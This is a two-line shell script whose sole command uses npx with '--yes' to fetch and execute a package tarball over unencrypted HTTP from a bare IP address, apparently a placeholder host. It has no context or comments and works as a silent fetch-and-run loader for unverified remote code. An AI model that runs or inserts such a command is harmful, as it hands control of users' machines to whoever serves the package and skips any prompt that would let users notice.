#!/bin/sh
npx --yes http://192.0.2.5/pkg.tgz
